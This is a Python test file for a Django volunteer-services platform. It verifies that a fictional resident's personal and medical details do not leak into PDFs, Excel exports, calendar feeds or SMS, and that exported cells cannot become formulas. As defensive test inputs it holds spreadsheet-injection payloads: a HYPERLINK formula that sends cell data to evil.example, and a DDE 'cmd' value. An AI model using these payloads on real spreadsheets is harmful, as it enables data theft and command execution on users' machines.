"""Privacy scans of everything that leaves the platform: a resident with a distinctive name,
phone, ID number, address and story is served through the whole order loop and an activity;
then every output — the proof PDF, each Excel export, the iCalendar feeds, the inbox texts and
the SMS deliveries — is searched for any of it. A volunteer's own data on their own proof is
fine; nobody else's may appear. Also: no exported cell starts a formula."""

from datetime import date, timedelta
from io import BytesIO

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from shezhi.activities import calendar
from shezhi.activities import services as activity_services
from shezhi.activities.tests.factories import activity, sign_up
from shezhi.core.validators import compose_id_number
from shezhi.imports import services as import_services
from shezhi.imports import sheets
from shezhi.needs import services as need_services
from shezhi.needs.models import Need
from shezhi.notifications.models import Notification
from shezhi.notifications.services import deliver_pending
from shezhi.people.tests.factories import ResidentFactory
from shezhi.proofs import services as proof_services
from shezhi.proofs.tests.test_pdf import pdftotext
from shezhi.volunteers.models import ServiceRecord
from shezhi.volunteers.tests.factories import record

NAME = "欧阳娜娜"
PHONE = "13987654321"
ID_NUMBER = compose_id_number("420106", date(1948, 6, 1), 777)
ADDRESS = "9栋4单元1203"
STORY = "我78岁一个人住，明天上午要去武汉市第一医院心内科复诊，想找人陪同"
NOTE = f"陪同{NAME}（董阿姨）到市一医院心内科复诊，家属电话{PHONE}"
RATING = "小伙子很耐心，我的心脏病好多了"
INJECTION = '=HYPERLINK("http://evil.example/?id="&C2,"查看详情")'

# Anything of these in an output is a leak: the resident's identity and the words of the story,
# the worker's note and the rating.
FRAGMENTS = (
    NAME,
    "欧阳",
    PHONE,
    ID_NUMBER,
    ADDRESS,
    "78岁",
    "一个人住",
    "心内科",
    "第一医院",
    "市一医院",
    "董阿姨",
    "复诊",
    "心脏病",
)


def assert_clean(text: str, where: str) -> None:
    leaked = [f for f in FRAGMENTS if f in text]
    assert not leaked, f"{where} carries a resident's data: {leaked}"


@pytest.fixture
def served(world, settings):
    """The stranger's order, taken and completed by Bob, rated; Bob also serves at an activity
    where the stranger is a registered beneficiary."""
    settings.SHEZHI_NOTIFICATION_CHANNELS = ["inbox", "sms"]
    stranger = ResidentFactory(
        grid=world.a["grid"], name=NAME, phone=PHONE, id_number=ID_NUMBER, address=ADDRESS
    )
    need = need_services.need_create(
        actor=world.alice,
        category="health",
        urgency="general",
        description=STORY,
        resident_id=stranger.pk,
        source="phone",
    )
    need_services.need_dispatch(
        actor=world.alice,
        need_id=need.pk,
        target_kind="volunteer",
        target_id=world.bob_volunteer.pk,
    )
    need_services.need_accept(actor=world.bob, need_id=need.pk)
    need_services.need_start(actor=world.bob, need_id=need.pk)
    # Two hours really spent, and a good rating: the record counts (volunteers/trust.py).
    Need.objects.filter(pk=need.pk).update(started_at=timezone.now() - timedelta(minutes=125))
    need_services.need_complete(actor=world.bob, need_id=need.pk, minutes=120, note=NOTE)
    need_services.need_rate(actor=world.alice, need_id=need.pk, score=4, comment=RATING)

    now = timezone.now()
    act = activity(
        world.alice,
        world.a["community"],
        starts_at=now + timedelta(days=3),
        ends_at=now + timedelta(days=3, hours=2),
        now=now,
    )
    sign_up(world.bob, act, now=now)
    activity_services.beneficiary_add(
        actor=world.alice, activity_id=act.pk, resident_id=stranger.pk
    )
    other = activity(
        world.alice,
        world.a["community"],
        title="清扫楼道",
        starts_at=now + timedelta(days=4),
        ends_at=now + timedelta(days=4, hours=2),
        now=now,
    )
    sign_up(world.bob, other, now=now)
    activity_services.activity_cancel(actor=world.alice, activity_id=other.pk, reason="暴雨")
    return stranger, need, act


def served_on(need) -> date:
    """The day the order's service began (yesterday when it began before midnight)."""
    return ServiceRecord.objects.get(source=f"need:{need.pk}").service_date


def test_proof_pdf_names_the_volunteer_and_no_resident(world, served, tmp_path):
    day = served_on(served[1])
    proof = proof_services.proof_issue(actor=world.bob, date_from=day, date_to=day)
    text = pdftotext(bytes(proof.pdf), tmp_path).replace("\n", "").replace(" ", "")
    assert world.bob_volunteer.name in text  # their own name on their own proof
    assert "为社区居民提供医疗健康服务" in text
    assert_clean(text, "the proof PDF")


def _cells(data: bytes):
    wb = load_workbook(BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_hours_export_carries_no_resident_data(world, served):
    out = BytesIO()
    day = served_on(served[1])
    rows = import_services.hours_export(actor=world.alice, date_from=day, date_to=day, out=out)
    assert rows == 1
    cells = _cells(out.getvalue())
    text = "\n".join(str(c.value) for c in cells if c.value is not None)
    assert world.bob_volunteer.id_number in text  # the volunteer's own ID: the national format
    assert_clean(text, "the hours export")


def test_hours_export_writes_a_formula_looking_note_as_text(world):
    record(
        world.alice,
        world.bob_volunteer,
        world.a["community"],
        service_date=timezone.localdate(),
        content=INJECTION,
        organiser="+cmd|' /C calc'!A0",
    )
    out = BytesIO()
    today = timezone.localdate()
    import_services.hours_export(actor=world.alice, date_from=today, date_to=today, out=out)
    cells = _cells(out.getvalue())
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + INJECTION in [c.value for c in cells]


def test_import_error_report_writes_formula_looking_cells_as_text():
    out = BytesIO()
    sheets.error_report(
        [
            {"row": 2, "column": "=1+1", "reason": "-2+3"},
            {"row": 3, "column": "@A1", "reason": "x"},
        ],
        out,
    )
    cells = _cells(out.getvalue())
    assert not [c for c in cells if c.data_type == "f"]
    assert {"'=1+1", "'-2+3", "'@A1"} <= {c.value for c in cells}


@pytest.mark.parametrize("kind", sorted(sheets.LAYOUTS))
def test_import_templates_hold_no_formula(kind):
    out = BytesIO()
    sheets.template_workbook(sheets.LAYOUTS[kind], out)
    assert not [c for c in _cells(out.getvalue()) if c.data_type == "f"]


def test_calendar_feeds_carry_no_resident_data(world, served):
    for kind, object_id in (
        (calendar.VOLUNTEER, world.bob_volunteer.pk),
        (calendar.COMMUNITY, world.a["community"].pk),
    ):
        feed = calendar.feed_for_token(calendar.feed_token(kind, object_id))
        assert feed.activities
        assert_clean(calendar.render(feed).decode(), f"the {kind} calendar feed")


def test_notifications_and_sms_carry_no_resident_data(world, served, capsys):
    capsys.readouterr()
    deliver_pending()
    sms = capsys.readouterr().out
    notes = Notification.objects.all()
    assert notes.exists() and "[SMS]" in sms
    for n in notes:
        assert_clean(f"{n.title}\n{n.body}", f"the notification “{n.title}”")
    assert_clean(sms, "the SMS deliveries")
